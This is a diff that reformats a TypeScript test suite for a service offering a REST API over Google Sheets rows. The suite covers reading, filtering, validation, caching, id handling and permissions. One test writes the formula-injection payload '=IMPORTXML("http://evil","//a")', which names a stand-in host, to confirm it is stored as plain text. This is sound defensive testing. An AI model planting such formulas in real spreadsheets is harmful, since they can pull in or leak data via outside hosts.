@@ -19,7 +19,15 @@ const TAB = "Ventes été 📦";
 
 /** A new spreadsheet of the owner's, which the service may edit, registered: its id and a client with its first key. */
 async function registeredSheet(title: string, tabs: { title: string; rows: unknown[][] }[]) {
-  const sheetId = String((await svc.admin("/spreadsheets", { title, members: { "sheetapi-local@sheetapi-local.iam.gserviceaccount.com": "writer", "owner@example.com": "owner" }, tabs })).spreadsheetId);
+  const sheetId = String(
+    (
+      await svc.admin("/spreadsheets", {
+        title,
+        members: { "sheetapi-local@sheetapi-local.iam.gserviceaccount.com": "writer", "owner@example.com": "owner" },
+        tabs,
+      })
+    ).spreadsheetId,
+  );
   return { sheetId, client: rowsClient(sheetId, await registeredKey(owner, sheetId)) };
 }
 
@@ -30,9 +38,24 @@ beforeAll(async () => {
   const { registerSheet } = await import("@/lib/sheets/registration/registration");
   const user = (owner = await createUser({ email: "rows@example.com", plan: "business" }));
   await proveAccessWithGoogle(user, [DEMO_SPREADSHEET_ID, PUBLIC_READONLY_SPREADSHEET_ID]);
-  api = rowsClient(DEMO_SPREADSHEET_ID, (await registerSheet({ userId: user.id, sheetUrl: DEMO_SPREADSHEET_ID })).apiKey!);
-  readOnly = rowsClient(PUBLIC_READONLY_SPREADSHEET_ID, (await registerSheet({ userId: user.id, sheetUrl: PUBLIC_READONLY_SPREADSHEET_ID })).apiKey!);
-  ({ sheetId: unicodeId, client: unicode } = await registeredSheet("Unicode", [{ title: TAB, rows: [["id", "produit", "prix"], [1, "Crème brûlée", 4.5], [2, "Café", 2]] }]));
+  api = rowsClient(
+    DEMO_SPREADSHEET_ID,
+    (await registerSheet({ userId: user.id, sheetUrl: DEMO_SPREADSHEET_ID })).apiKey!,
+  );
+  readOnly = rowsClient(
+    PUBLIC_READONLY_SPREADSHEET_ID,
+    (await registerSheet({ userId: user.id, sheetUrl: PUBLIC_READONLY_SPREADSHEET_ID })).apiKey!,
+  );
+  ({ sheetId: unicodeId, client: unicode } = await registeredSheet("Unicode", [
+    {
+      title: TAB,
+      rows: [
+        ["id", "produit", "prix"],
+        [1, "Crème brûlée", 4.5],
+        [2, "Café", 2],
+      ],
+    },
+  ]));
 });
 afterAll(async () => {
   setLimitStore(undefined);
@@ -40,14 +63,25 @@ afterAll(async () => {
 });
 beforeEach(() => svc.google.calls.clear());
 
-const raw = async (id: string) => (await svc.admin(`/spreadsheets/${id}`)) as unknown as { tabs: { title: string; rows: ({ value: unknown } | null)[][] }[] };
+const raw = async (id: string) =>
+  (await svc.admin(`/spreadsheets/${id}`)) as unknown as {
+    tabs: { title: string; rows: ({ value: unknown } | null)[][] }[];
+  };
 
 describe("reading", () => {
   it("lists rows with meta, values as strings, empty cells as empty strings", async () => {
     const res = await api.list("Products");
     expect(res.status).toBe(200);
     expect(res.body.meta).toEqual({ total: 6, limit: 100, offset: 0, returned: 6 });
-    expect((res.body.data as unknown[])[1]).toEqual({ id: "2", name: "Standing desk", price: "$399.00", in_stock: "TRUE", released: "2024-02-13", rating: "4.8", notes: "" });
+    expect((res.body.data as unknown[])[1]).toEqual({
+      id: "2",
+      name: "Standing desk",
+      price: "$399.00",
+      in_stock: "TRUE",
+      released: "2024-02-13",
+      rating: "4.8",
+      notes: "",
+    });
   });
 
   it("gives row-number ids to tabs without an id column, skipping blank rows", async () => {
@@ -62,19 +96,39 @@ describe("reading", () => {
   });
 
   it("filters, sorts and pages; total counts the matches", async () => {
-    const res = await api.list("Products", "filter=in_stock=TRUE,price>=20&sort=price&order=desc&limit=2&offset=1&select=name,price");
+    const res = await api.list(
+      "Products",
+      "filter=in_stock=TRUE,price>=20&sort=price&order=desc&limit=2&offset=1&select=name,price",
+    );
     expect(res.body.meta).toEqual({ total: 3, limit: 2, offset: 1, returned: 2 });
-    expect(res.body.data).toEqual([{ id: "4", name: "Ergonomic chair", price: "$249.00" }, { id: "1", name: "Desk lamp", price: "$24.50" }]);
+    expect(res.body.data).toEqual([
+      { id: "4", name: "Ergonomic chair", price: "$249.00" },
+      { id: "1", name: "Desk lamp", price: "$24.50" },
+    ]);
   });
 
   it("returns typed values on request", async () => {
     const res = await api.get("Products", "3", "typed=true");
-    expect(res.body.data).toEqual({ id: 3, name: "Monitor arm", price: 89.99, in_stock: false, released: "2024-04-18", rating: 4.1, notes: "Back in March" });
-    expect(((await api.list("Orders", "typed=true")).body.data as Record<string, unknown>[])[1]).toMatchObject({ discount: 0.1, quantity: 1 });
+    expect(res.body.data).toEqual({
+      id: 3,
+      name: "Monitor arm",
+      price: 89.99,
+      in_stock: false,
+      released: "2024-04-18",
+      rating: 4.1,
+      notes: "Back in March",
+    });
+    expect(((await api.list("Orders", "typed=true")).body.data as Record<string, unknown>[])[1]).toMatchObject({
+      discount: 0.1,
+      quantity: 1,
+    });
   });
 
   it("reads tabs with spaces and unicode in their names, case-sensitively", async () => {
-    expect((await unicode.list(TAB)).body.data).toEqual([{ id: "1", produit: "Crème brûlée", prix: "4.5" }, { id: "2", produit: "Café", prix: "2" }]);
+    expect((await unicode.list(TAB)).body.data).toEqual([
+      { id: "1", produit: "Crème brûlée", prix: "4.5" },
+      { id: "2", produit: "Café", prix: "2" },
+    ]);
     const wrongCase = await api.list("products");
     expect(wrongCase.status).toBe(404);
     expect(wrongCase.body).toMatchObject({ success: false, error: "not_found" });
@@ -82,21 +136,31 @@ describe("reading", () => {
   });
 
   it("answers 404 for an unknown row", async () => {
-    expect((await api.get("Products", "999")).body).toMatchObject({ success: false, error: "not_found", message: 'No row with id "999" in the tab "Products".' });
+    expect((await api.get("Products", "999")).body).toMatchObject({
+      success: false,
+      error: "not_found",
+      message: 'No row with id "999" in the tab "Products".',
+    });
   });
 
   it.each([
-    ["limit=5000", "limit must be an integer from 1 to 1000; got \"5000\"."],
-    ["offset=x", "offset must be a whole number, 0 or more; got \"x\"."],
-    ["order=sideways", "order must be asc or desc (lower case), or one of them per sort column; got \"sideways\"."],
-    ["sort=name&order=DESC", "order must be asc or desc (lower case), or one of them per sort column; got \"DESC\"."],
-    ["limit=10&limit=1000", "The query parameter \"limit\" was sent 2 times; it takes one value."],
-    ["sort=colour", "Unknown sort column \"colour\". Columns: id, name, price, in_stock, released, rating, notes."],
-    ["filter=colour=red", "Unknown filter column \"colour\". Columns: id, name, price, in_stock, released, rating, notes."],
-    ["filter=name", "Cannot read the filter condition \"name\": write column=value (operators = != > >= < <= ~ ~=)."],
-    ["select=colour", "Unknown select column \"colour\". Columns: id, name, price, in_stock, released, rating, notes."],
-    ["typed=maybe", "typed must be true or false; got \"maybe\"."],
-    ["page=2", "Unknown query parameter \"page\". Use limit, offset, sort, order, filter, or, select, typed, formulas, fresh (names starting with _ are ignored)."],
+    ["limit=5000", 'limit must be an integer from 1 to 1000; got "5000".'],
+    ["offset=x", 'offset must be a whole number, 0 or more; got "x".'],
+    ["order=sideways", 'order must be asc or desc (lower case), or one of them per sort column; got "sideways".'],
+    ["sort=name&order=DESC", 'order must be asc or desc (lower case), or one of them per sort column; got "DESC".'],
+    ["limit=10&limit=1000", 'The query parameter "limit" was sent 2 times; it takes one value.'],
+    ["sort=colour", 'Unknown sort column "colour". Columns: id, name, price, in_stock, released, rating, notes.'],
+    [
+      "filter=colour=red",
+      'Unknown filter column "colour". Columns: id, name, price, in_stock, released, rating, notes.',
+    ],
+    ["filter=name", 'Cannot read the filter condition "name": write column=value (operators = != > >= < <= ~ ~=).'],
+    ["select=colour", 'Unknown select column "colour". Columns: id, name, price, in_stock, released, rating, notes.'],
+    ["typed=maybe", 'typed must be true or false; got "maybe".'],
+    [
+      "page=2",
+      'Unknown query parameter "page". Use limit, offset, sort, order, filter, or, select, typed, formulas, fresh (names starting with _ are ignored).',
+    ],
   ])("answers 400 for %s", async (query, message) => {
     const res = await api.list("Products", query);
     expect(res.status).toBe(400);
@@ -132,16 +196,39 @@ describe("the cache", () => {
     await svc.admin(`/spreadsheets/${unicodeId}/values`, { range: `'${TAB}'!B2`, values: [["Crème caramel"]] });
     expect(((await unicode.list(TAB)).body.data as { produit: string }[])[0]!.produit).toBe("Crème brûlée");
     const { POST } = await import("@/app/api/[sheetId]/refresh-schema/route");
-    await callRoute(POST, { method: "POST", path: `/api/${unicodeId}/refresh-schema`, params: { sheetId: unicodeId }, headers: { "X-API-Key": await unicodeKey() } });
+    await callRoute(POST, {
+      method: "POST",
+      path: `/api/${unicodeId}/refresh-schema`,
+      params: { sheetId: unicodeId },
+      headers: { "X-API-Key": await unicodeKey() },
+    });
     expect(((await unicode.list(TAB)).body.data as { produit: string }[])[0]!.produit).toBe("Crème caramel");
   });
 });
 
 describe("creating rows", () => {
   it("creates one row with the next id, writing values as text, never as formulas, and answers it as the sheet shows it", async () => {
-    const res = await api.create("Products", { name: "Shelf", price: 10, in_stock: true, notes: '=IMPORTXML("http://evil","//a")' });
+    const res = await api.create("Products", {
+      name: "Shelf",
+      price: 10,
+      in_stock: true,
+      notes: '=IMPORTXML("http://evil","//a")',
+    });
     expect(res.status).toBe(201);
-    expect(res.body.data).toEqual({ created: 1, rows: [{ id: "7", name: "Shelf", price: "$10.00", in_stock: "TRUE", released: "", rating: "", notes: '=IMPORTXML("http://evil","//a")' }] });
+    expect(res.body.data).toEqual({
+      created: 1,
+      rows: [
+        {
+          id: "7",
+          name: "Shelf",
+          price: "$10.00",
+          in_stock: "TRUE",
+          released: "",
+          rating: "",
+          notes: '=IMPORTXML("http://evil","//a")',
+        },
+      ],
+    });
     const stored = (await raw(DEMO_SPREADSHEET_ID)).tabs[0]!.rows[7]!;
     expect(stored[0]).toEqual({ value: 7 });
     expect(stored[6]).toEqual({ value: '=IMPORTXML("http://evil","//a")' });
@@ -158,7 +245,11 @@ describe("creating rows", () => {
 
   it("gives row numbers to rows created in a tab without an id column", async () => {
     const res = await api.create("Team Members", { name: "Hedy Lamarr", active: true });
-    expect((res.body.data as { rows: Record<string, string>[] }).rows[0]).toMatchObject({ id: "7", name: "Hedy Lamarr", active: "TRUE" });
+    expect((res.body.data as { rows: Record<string, string>[] }).rows[0]).toMatchObject({
+      id: "7",
+      name: "Hedy Lamarr",
+      active: "TRUE",
+    });
   });
 
   it.each([
@@ -167,13 +258,52 @@ describe("creating rows", () => {
     ["an empty array", [], 400, "validation_error", /empty array/],
     ["a string", '"hello"', 400, "validation_error", /JSON object/],
     ["an unknown column", { colour: "red" }, 400, "validation_error", /"colour" is not a column of "Products"/],
-    ["a nested value", { name: { first: "x" } }, 400, "validation_error", /Field "name" must be a string, number, boolean or null/],
-    ["a value longer than a cell holds", [{ name: "ok" }, { name: "x".repeat(50_001) }], 400, "validation_error", /Field "name" of row 2 is 50,001 characters long: a Google Sheets cell holds at most 50,000\. Nothing was written\./],
-    ["a NUL in a value", [{ name: "ok" }, { name: "a\u0000b" }], 400, "validation_error", /^Field "name" of row 2 holds a NUL character \(\\u0000\), which a Google Sheets cell may not store as sent\. Nothing was written\.$/],
-    ["a lone surrogate in a value", { name: "half \ud83d pair" }, 400, "validation_error", /^Field "name" holds a lone UTF-16 surrogate \(half of a pair, e\.g\. \\ud800\), which a Google Sheets cell may not store as sent\. Nothing was written\.$/],
-    ["a lone low surrogate in a value", { name: "\ude00" }, 400, "validation_error", /^Field "name" holds a lone UTF-16 surrogate/],
+    [
+      "a nested value",
+      { name: { first: "x" } },
+      400,
+      "validation_error",
+      /Field "name" must be a string, number, boolean or null/,
+    ],
+    [
+      "a value longer than a cell holds",
+      [{ name: "ok" }, { name: "x".repeat(50_001) }],
+      400,
+      "validation_error",
+      /Field "name" of row 2 is 50,001 characters long: a Google Sheets cell holds at most 50,000\. Nothing was written\./,
+    ],
+    [
+      "a NUL in a value",
+      [{ name: "ok" }, { name: "a\u0000b" }],
+      400,
+      "validation_error",
+      /^Field "name" of row 2 holds a NUL character \(\\u0000\), which a Google Sheets cell may not store as sent\. Nothing was written\.$/,
+    ],
+    [
+      "a lone surrogate in a value",
+      { name: "half \ud83d pair" },
+      400,
+      "validation_error",
+      /^Field "name" holds a lone UTF-16 surrogate \(half of a pair, e\.g\. \\ud800\), which a Google Sheets cell may not store as sent\. Nothing was written\.$/,
+    ],
+    [
+      "a lone low surrogate in a value",
+      { name: "\ude00" },
+      400,
+      "validation_error",
+      /^Field "name" holds a lone UTF-16 surrogate/,
+    ],
     ["an existing id", { id: 1, name: "dup" }, 409, "conflict", /id "1" already exists/],
-    ["a repeated id", [{ id: 500, name: "a" }, { id: 500, name: "b" }], 409, "conflict", /Rows 1 and 2 of this request both have id "500"/],
+    [
+      "a repeated id",
+      [
+        { id: 500, name: "a" },
+        { id: 500, name: "b" },
+      ],
+      409,
+      "conflict",
+      /Rows 1 and 2 of this request both have id "500"/,
+    ],
   ])("refuses %s and writes nothing", async (_case, body, status, code, message) => {
     const before = JSON.stringify((await raw(DEMO_SPREADSHEET_ID)).tabs[0]);
     const res = await api.create("Products", body);
@@ -186,13 +316,24 @@ describe("creating rows", () => {
   it("refuses a bulk create when any row is invalid, writing none of them", async () => {
     const before = JSON.stringify((await raw(DEMO_SPREADSHEET_ID)).tabs[0]);
     const res = await api.create("Products", [{ name: "ok" }, { name: "ok too" }, { nope: 1 }]);
-    expect(res.body).toMatchObject({ error: "validation_error", message: 'Row 3: "nope" is not a column of "Products". Columns: id, name, price, in_stock, released, rating, notes.' });
+    expect(res.body).toMatchObject({
+      error: "validation_error",
+      message:
+        'Row 3: "nope" is not a column of "Products". Columns: id, name, price, in_stock, released, rating, notes.',
+    });
     expect(JSON.stringify((await raw(DEMO_SPREADSHEET_ID)).tabs[0])).toBe(before);
   });
 
   it("refuses an id in a tab without an id column, more than 1,000 rows, other content types and bodies over 1 MB", async () => {
     expect((await api.create("Team Members", { id: 9, name: "x" })).body.message).toMatch(/has no id column/);
-    expect((await api.create("Products", Array.from({ length: 1001 }, () => ({ name: "x" })))).body.message).toBe("At most 1000 rows can be created in one request; got 1001.");
+    expect(
+      (
+        await api.create(
+          "Products",
+          Array.from({ length: 1001 }, () => ({ name: "x" })),
+        )
+      ).body.message,
+    ).toBe("At most 1000 rows can be created in one request; got 1001.");
     const text = await api.create("Products", "name=x", { "content-type": "text/plain" });
     expect([text.status, text.body.error]).toEqual([400, "validation_error"]);
     const typed = await api.create("Products", '{"name":"x"}', { "content-type": "text/plain" });
@@ -209,7 +350,8 @@ describe("creating rows", () => {
 
   it("keeps a given id as sent: leading zeros and 16+ digits stay text ids, and the counter goes on from the plain ones", async () => {
     type Created = { rows: { id: string }[] };
-    const cellOf = async (name: string) => (await raw(DEMO_SPREADSHEET_ID)).tabs[0]!.rows.find((r) => r?.[1]?.value === name)![0];
+    const cellOf = async (name: string) =>
+      (await raw(DEMO_SPREADSHEET_ID)).tabs[0]!.rows.find((r) => r?.[1]?.value === name)![0];
     // "02" is not row 2's id: written as a number it would show as "2", a second row with that id.
     const zero = await api.create("Products", { id: "02", name: "Zero-led" });
     expect([zero.status, (zero.body.data as Created).rows[0]!.id]).toEqual([201, "02"]);
@@ -226,7 +368,9 @@ describe("creating rows", () => {
     expect(await cellOf("Long id")).toEqual({ value: long });
     expect((await api.get("Products", long)).body.data).toMatchObject({ id: long, name: "Long id" });
     expect((await api.create("Products", { id: long, name: "again" })).status).toBe(409);
-    expect((await api.create("Products", { id: 1234567890123457, name: "JSON number" })).body.data).toMatchObject({ rows: [{ id: "1234567890123457" }] });
+    expect((await api.create("Products", { id: 1234567890123457, name: "JSON number" })).body.data).toMatchObject({
+      rows: [{ id: "1234567890123457" }],
+    });
 
     // New ids go on from the plain integer ids, each its own.
     const next = await api.create("Products", [{ name: "After 1" }, { name: "After 2" }]);
@@ -247,7 +391,23 @@ describe("creating rows", () => {
 
   it("never hands out an id again, even once the limit store has forgotten everything (a restart of the embedded store)", async () => {
     const idOf = (res: { body: Record<string, unknown> }) => (res.body.data as { rows: { id: string }[] }).rows[0]!.id;
-    const { sheetId, client: ids } = await registeredSheet("Ids", [{ title: "Items", rows: [["id", "name"], [1, "a"], [2, "b"]] }, { title: "Older", rows: [["id", "name"], [1, "a"]] }]);
+    const { sheetId, client: ids } = await registeredSheet("Ids", [
+      {
+        title: "Items",
+        rows: [
+          ["id", "name"],
+          [1, "a"],
+          [2, "b"],
+        ],
+      },
+      {
+        title: "Older",
+        rows: [
+          ["id", "name"],
+          [1, "a"],
+        ],
+      },
+    ]);
     expect(idOf(await ids.create("Items", { name: "c" }))).toBe("3");
     expect(idOf(await ids.create("Items", { name: "d" }))).toBe("4");
     expect((await ids.remove("Items", "4")).status).toBe(200);
@@ -268,21 +428,52 @@ describe("creating rows", () => {
     await svc.google.store.mutate(sheetId, (s) => {
       const older = s.tabs.find((t) => t.title === "Older")!;
       older.title = "Renamed";
-      s.tabs.push({ ...older, title: "Older", sheetId: older.sheetId + 1000, rows: [[{ value: "id" }, { value: "name" }], [{ value: 1 }, { value: "new" }]] });
+      s.tabs.push({
+        ...older,
+        title: "Older",
+        sheetId: older.sheetId + 1000,
+        rows: [
+          [{ value: "id" }, { value: "name" }],
+          [{ value: 1 }, { value: "new" }],
+        ],
+      });
     });
     const { POST } = await import("@/app/api/[sheetId]/refresh-schema/route");
-    expect((await callRoute(POST, { method: "POST", path: `/api/${sheetId}/refresh-schema`, params: { sheetId }, headers: { "X-API-Key": ids.key } })).status).toBe(200);
+    expect(
+      (
+        await callRoute(POST, {
+          method: "POST",
+          path: `/api/${sheetId}/refresh-schema`,
+          params: { sheetId },
+          headers: { "X-API-Key": ids.key },
+        })
+      ).status,
+    ).toBe(200);
     setLimitStore(memoryStore());
     expect(idOf(await ids.create("Renamed", { name: "d" }))).toBe("43");
     expect(idOf(await ids.create("Older", { name: "again" }))).toBe("43");
   });
 
   it("says how to allow writes again when the service's account may only view the sheet now, and keeps reading", async () => {
-    const { sheetId, client: api } = await registeredSheet("Viewer now", [{ title: "Items", rows: [["id", "name"], [1, "a"]] }]);
-    await svc.admin(`/spreadsheets/${sheetId}/access`, { members: { "sheetapi-local@sheetapi-local.iam.gserviceaccount.com": "reader" } }, "PATCH");
+    const { sheetId, client: api } = await registeredSheet("Viewer now", [
+      {
+        title: "Items",
+        rows: [
+          ["id", "name"],
+          [1, "a"],
+        ],
+      },
+    ]);
+    await svc.admin(
+      `/spreadsheets/${sheetId}/access`,
+      { members: { "sheetapi-local@sheetapi-local.iam.gserviceaccount.com": "reader" } },
+      "PATCH",
+    );
     const refused = await api.create("Items", { name: "b" });
     expect([refused.status, refused.body.error]).toEqual([403, "forbidden"]);
-    expect(String(refused.body.message)).toMatch(/can no longer edit this spreadsheet .* nothing was written\. .* share the sheet with the service's account as Editor, or register it through the private flow/);
+    expect(String(refused.body.message)).toMatch(
+      /can no longer edit this spreadsheet .* nothing was written\. .* share the sheet with the service's account as Editor, or register it through the private flow/,
+    );
     expect((await api.list("Items", "fresh=true")).status).toBe(200);
     expect(svc.google.store.get(sheetId)!.tabs[0]!.rows.filter((r) => r.some(Boolean))).toHaveLength(2);
   });
@@ -292,7 +483,15 @@ describe("updating and deleting rows", () => {
   it("changes only the named cells and answers the whole row", async () => {
     const res = await api.update("Products", "4", { rating: 4.9, notes: null });
     expect(res.status).toBe(200);
-    expect(res.body.data).toEqual({ id: "4", name: "Ergonomic chair", price: "$249.00", in_stock: "TRUE", released: "2023-07-16", rating: "4.9", notes: "" });
+    expect(res.body.data).toEqual({
+      id: "4",
+      name: "Ergonomic chair",
+      price: "$249.00",
+      in_stock: "TRUE",
+      released: "2023-07-16",
+      rating: "4.9",
+      notes: "",
+    });
     expect((await api.get("Products", "4")).body.data).toMatchObject({ name: "Ergonomic chair", rating: "4.9" });
   });
 
@@ -338,5 +537,6 @@ async function unicodeKey(): Promise<string> {
   const { createKeyForSheet } = await import("@/lib/keys/manage");
   const { getUserByEmail } = await import("@/db/queries/users");
   const user = (await getUserByEmail({ email: "rows@example.com" }))!;
-  return (await createKeyForSheet({ userId: user.id, sheetId: unicodeId, name: "schema", permissions: ["schema"] })).value;
+  return (await createKeyForSheet({ userId: user.id, sheetId: unicodeId, name: "schema", permissions: ["schema"] }))
+    .value;
 }
